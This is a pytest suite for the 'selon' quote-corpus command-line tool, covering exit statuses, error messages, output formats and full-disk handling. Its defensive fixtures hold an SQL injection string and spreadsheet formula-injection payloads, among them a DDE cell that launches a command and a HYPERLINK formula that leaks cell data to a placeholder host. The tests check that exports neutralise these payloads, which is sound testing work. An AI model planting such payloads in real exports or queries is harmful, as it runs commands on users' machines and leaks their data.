"""The corpus commands at the edge: exit statuses, messages on stderr, formats on stdout."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest
from typer.testing import CliRunner

from selon.cli.main import app
from selon.corpus import Corpus, save
from selon.corpus.syndication import Syndication
from selon.corpus.testing import scripted_analysis
from selon.store.migrations import LATEST

runner = CliRunner()


@pytest.fixture
def filled(db_url: str) -> str:
    with Corpus(db_url) as corpus:
        text = "Adrienne Watson|person|deny|Aucun accord.\n"
        analysis = scripted_analysis(text, doc_id="k1", outlet="Le Monde", published="2022-10-01")
        save.save_analysis(corpus.store, analysis, "k1", Syndication.load(corpus.store))
    return db_url


def test_stats_json_has_the_totals_and_per_outlet_figures(filled: str) -> None:
    result = runner.invoke(app, ["stats", "--db", filled, "--format", "json"])
    figures = json.loads(result.stdout)
    assert result.exit_code == 0
    assert (figures["articles"], figures["attributions"], figures["sources"], figures["failed"]) == (1, 1, 1, 0)
    assert figures["outlets"][0]["outlet"] == "Le Monde"


def test_quotes_csv_has_a_header_and_the_statement(filled: str) -> None:
    result = runner.invoke(app, ["quotes", "--source", "watson", "--db", filled, "--format", "csv"])
    lines = result.stdout.splitlines()
    assert lines[0].startswith("attribution_id,") and "Aucun accord." in lines[1]


def test_sources_json_lists_speakers(filled: str) -> None:
    result = runner.invoke(app, ["sources", "--db", filled, "--format", "json"])
    assert [s["name"] for s in json.loads(result.stdout)] == ["Adrienne Watson"]


def test_article_json_is_the_selon_1_object(filled: str) -> None:
    result = runner.invoke(app, ["article", "k1", "--db", filled, "--format", "json"])
    assert json.loads(result.stdout)["schema"] == "selon/1"


def test_an_unknown_article_exits_79_with_a_message(filled: str) -> None:
    result = runner.invoke(app, ["article", "nope", "--db", filled])
    assert result.exit_code == 79 and "no stored article" in result.stderr and "Traceback" not in result.output


def test_a_file_that_is_not_a_selon_database_exits_76_and_is_untouched(tmp_path: Path) -> None:
    path = tmp_path / "notes.txt"
    path.write_text("hello")
    result = runner.invoke(app, ["stats", "--db", str(path)])
    assert result.exit_code == 76 and "E031" in result.stderr and path.read_text() == "hello"


def test_a_database_url_that_does_not_answer_exits_77(tmp_path: Path) -> None:
    result = runner.invoke(app, ["sources", "--db", "postgresql://u:pw@127.0.0.1:1/db"])
    assert result.exit_code == 77 and "E032" in result.stderr and "pw" not in result.stderr


def test_export_writes_a_file_in_the_chosen_format(filled: str, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    result = runner.invoke(app, ["export", "--format", "webannotation", "--db", filled, "-o", str(out)])
    assert result.exit_code == 0 and json.loads(out.read_text())["type"] == "Annotation"


def test_ingest_with_failures_exits_3_and_records_them(tmp_path: Path) -> None:
    path = tmp_path / "bad.jsonl"
    path.write_text("not json\n")
    db = str(tmp_path / "selon.db")
    result = runner.invoke(app, ["ingest", str(path), "--db", db, "--format", "json"])
    assert result.exit_code == 3 and json.loads(result.stdout)["failed"] == 1
    assert "not JSON" in runner.invoke(app, ["failures", "--db", db, "--format", "csv"]).stdout


@pytest.mark.slow
def test_ingest_analyses_and_stores_real_articles(tmp_path: Path) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.txt").write_text("« Nous gagnerons », a déclaré la ministre Adrienne Watson.\n")
    (folder / "b.txt").write_text("Selon un responsable, le projet avance.\n")
    db = str(tmp_path / "selon.db")
    first = runner.invoke(app, ["ingest", str(folder), "--db", db, "--lang", "fr", "--format", "json"])
    again = runner.invoke(app, ["ingest", str(folder), "--db", db, "--lang", "fr", "--format", "json"])
    assert json.loads(first.stdout)["stored"] == 2, first.output
    assert json.loads(again.stdout)["skipped"] == 2


def _tables(url: str) -> set[str]:
    if url.startswith("postgresql"):
        import psycopg

        with psycopg.connect(url) as conn:
            rows = conn.execute("SELECT table_name FROM information_schema.tables "
                                "WHERE table_schema = current_schema()").fetchall()
    else:
        with sqlite3.connect(url) as conn:
            rows = conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    return {str(name) for (name,) in rows}


def _foreign_table(url: str) -> None:
    if url.startswith("postgresql"):
        import psycopg

        with psycopg.connect(url, autocommit=True) as conn:
            conn.execute("CREATE TABLE invoices (id integer)")
    else:
        with sqlite3.connect(url) as conn:
            conn.execute("CREATE TABLE invoices (id INTEGER)")


@pytest.mark.parametrize("command", [["stats"], ["sources"], ["quotes", "-s", "x"], ["search", "x"],
                                     ["export"], ["failures"], ["article", "x"]])
def test_a_query_on_a_mistyped_sqlite_path_says_no_store_and_creates_nothing(tmp_path: Path,
                                                                             command: list[str]) -> None:
    path = tmp_path / "corpsu.db"
    result = runner.invoke(app, [*command, "--db", str(path)])
    assert result.exit_code == 84 and "E035" in result.stderr and "no selon store" in " ".join(result.stderr.split())
    assert list(tmp_path.iterdir()) == []


def test_a_database_with_foreign_tables_is_neither_queried_nor_filled_without_init(db_url: str,
                                                                                   tmp_path: Path) -> None:
    _foreign_table(db_url)
    queried = runner.invoke(app, ["stats", "--db", db_url])
    assert queried.exit_code == 84 and "invoices" in queried.stderr, queried.output
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.unknown").write_text("")
    filled = runner.invoke(app, ["ingest", str(folder), "--db", db_url])
    assert filled.exit_code == 76 and "not one selon made" in " ".join(filled.stderr.split())
    assert _tables(db_url) == {"invoices"}


def test_init_creates_selon_tables_beside_a_postgresql_databases_own(db_url: str) -> None:
    _foreign_table(db_url)
    made = runner.invoke(app, ["init", "--db", db_url])
    if db_url.startswith("postgresql"):
        assert made.exit_code == 0 and "schema version" in made.stdout
        assert runner.invoke(app, ["stats", "--db", db_url]).exit_code == 0
        assert {"invoices", "articles", "selon_meta"} <= _tables(db_url)
    else:  # selon never writes into an SQLite file of another application
        assert made.exit_code == 76 and _tables(db_url) == {"invoices"}


def test_a_query_never_migrates_an_older_store(db_url: str) -> None:
    with Corpus(db_url) as corpus, corpus.store.transaction():
        corpus.store.execute("DROP TABLE speaker_outlets")
        corpus.store.execute("DROP TABLE speaker_counts")
        corpus.store.execute("DELETE FROM schema_migrations WHERE version = 2")
    result = runner.invoke(app, ["stats", "--db", db_url])
    assert result.exit_code == 75 and "selon init" in " ".join(result.stderr.split())
    with Corpus(db_url) as corpus:  # opening to write brings it up to date
        assert corpus.store.scalar("SELECT COUNT(*) FROM schema_migrations") == LATEST


class _FullDisk:
    """A connection whose inserts into `articles` fail as on a full disk once `allowed` have gone through."""

    def __init__(self, conn, error: Exception, allowed: int) -> None:
        self.conn, self.error, self.allowed = conn, error, allowed

    def execute(self, sql, *args, **kwargs):
        if sql.lstrip().startswith("INSERT INTO articles"):
            if self.allowed == 0:
                raise self.error
            self.allowed -= 1
        return self.conn.execute(sql, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self.conn, name)


def test_a_full_disk_stops_an_ingest_with_its_own_status_and_keeps_what_was_committed(
        db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import psycopg

    from selon.corpus import ingest as ingest_module
    from selon.corpus.testing import scripted_analyzer
    from selon.store.postgres import PostgresStore
    from selon.store.sqlite import SQLiteStore

    folder = tmp_path / "articles"
    folder.mkdir()
    for i in range(5):
        (folder / f"{i}.txt").write_text(f"Article {i}.\nAdrienne Watson|person|assert|Déclaration {i}.\n")
    monkeypatch.setattr(ingest_module, "analyze_many", scripted_analyzer)
    full = {"sqlite": sqlite3.OperationalError("database or disk is full"),
            "postgresql": psycopg.errors.DiskFull('could not extend file "base/1/2": No space left on device')}
    for store_class in (SQLiteStore, PostgresStore):
        connect = store_class._connect
        monkeypatch.setattr(store_class, "_connect",
                            lambda self, connect=connect: _FullDisk(connect(self), full[self.backend], 2))
    result = runner.invoke(app, ["ingest", str(folder), "--db", db_url, "--lang", "fr"])
    message = " ".join(result.stderr.split())
    assert result.exit_code == 85, result.output
    assert "E036" in message and "disk is full" in message and "free some space" in message
    assert "internal error" not in message
    monkeypatch.undo()
    with Corpus(db_url) as corpus:
        assert corpus.store.scalar("SELECT COUNT(*) FROM articles") == 2
        assert corpus.store.query("SELECT status FROM inputs") == [("stored",), ("stored",)]
        assert corpus.failures() == []


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs Linux's /dev/full, where every write is ENOSPC")
def test_an_export_to_a_full_disk_exits_with_the_disk_full_status(filled: str) -> None:
    result = runner.invoke(app, ["export", "--db", filled, "-o", "/dev/full"])
    assert result.exit_code == 85 and "disk is full" in result.stderr and "internal error" not in result.stderr


def test_an_export_read_by_head_ends_quietly_when_head_stops_reading(db_url: str, tmp_path: Path) -> None:
    import subprocess
    import sys

    with Corpus(db_url) as corpus:
        text = "".join(f"Adrienne Watson|person|assert|Déclaration numéro {i} {'x' * 200}.\n" for i in range(2000))
        save.save_analysis(corpus.store, scripted_analysis(text, doc_id="big"), "big", Syndication.load(corpus.store))
    selon = Path(sys.executable).with_name("selon")
    process = subprocess.Popen([str(selon), "export", "--db", db_url], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout is not None and process.stderr is not None
    first = process.stdout.readline()
    process.stdout.close()  # what `head -1` does after its line
    error = process.stderr.read().decode()
    assert process.wait(timeout=60) == 141, error
    assert json.loads(first)["source"] == "Adrienne Watson"
    assert error == ""


@pytest.mark.parametrize(("arguments", "option"), [
    (["sources", "--since", "2024-13-01"], "--since"),
    (["sources", "--kind", "x' OR 1=1"], "--kind"),
    (["sources", "--stance", "bogus"], "--stance"),
    (["sources", "--lang", "French"], "--lang"),
    (["quotes", "-s", "watson", "--until", "2024-02-30"], "--until"),
    (["quotes", "-s", "watson", "--stance", "bogus"], "--stance"),
])
def test_a_filter_no_row_could_match_is_a_usage_error_naming_its_option(filled: str, arguments: list[str],
                                                                        option: str) -> None:
    result = runner.invoke(app, [*arguments, "--db", filled, "--format", "json"])
    assert result.exit_code == 2 and option in result.stderr and "internal error" not in result.stderr
    assert result.stdout == ""


def test_a_valid_leap_day_filter_is_accepted(filled: str) -> None:
    result = runner.invoke(app, ["sources", "--since", "2020-02-29", "--db", filled, "--format", "json"])
    assert result.exit_code == 0 and [s["name"] for s in json.loads(result.stdout)] == ["Adrienne Watson"]


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1;"clic")', "+33 1 23", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def formulas(db_url: str) -> str:
    with Corpus(db_url) as corpus:
        text = "".join(f"{name}|person|assert|{formula}\n" for name, formula in zip(
            ["=2+5+cmd('/C calc')!A0", "Adrienne Watson", "Jean Martin", "Mahdi Nourian"], FORMULAS, strict=True))
        save.save_analysis(corpus.store, scripted_analysis(text, doc_id="f1"), "f1", Syndication.load(corpus.store))
    return db_url


def _csv_cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_export_cells_a_spreadsheet_would_run_start_with_a_quote(formulas: str) -> None:
    cells = _csv_cells(runner.invoke(app, ["export", "--format", "csv", "--db", formulas]).stdout)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert {f"'{f}" for f in FORMULAS} <= set(cells) and "'=2+5+cmd('/C calc')!A0" in cells


def test_csv_export_with_raw_keeps_the_cells_as_stored(formulas: str) -> None:
    cells = _csv_cells(runner.invoke(app, ["export", "--format", "csv", "--raw", "--db", formulas]).stdout)
    assert set(FORMULAS) <= set(cells)


def test_query_csv_cells_a_spreadsheet_would_run_start_with_a_quote(formulas: str) -> None:
    cells = _csv_cells(runner.invoke(app, ["quotes", "-s", "watson", "--format", "csv", "--db", formulas]).stdout)
    assert "'+33 1 23" in cells and "+33 1 23" not in cells


def test_an_ingest_whose_summary_reader_went_away_ends_quietly(tmp_path: Path) -> None:
    import subprocess
    import sys

    path = tmp_path / "bad.jsonl"
    path.write_text("not json\n")
    selon = Path(sys.executable).with_name("selon")
    process = subprocess.Popen([str(selon), "ingest", str(path), "--db", str(tmp_path / "selon.db")],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout is not None and process.stderr is not None
    process.stdout.close()  # the reader is gone before the summary is written
    error = process.stderr.read().decode()
    assert process.wait(timeout=120) == 141, error
    assert "Traceback" not in error and "internal error" not in error
    with Corpus(str(tmp_path / "selon.db")) as corpus:
        assert len(corpus.failures()) == 1
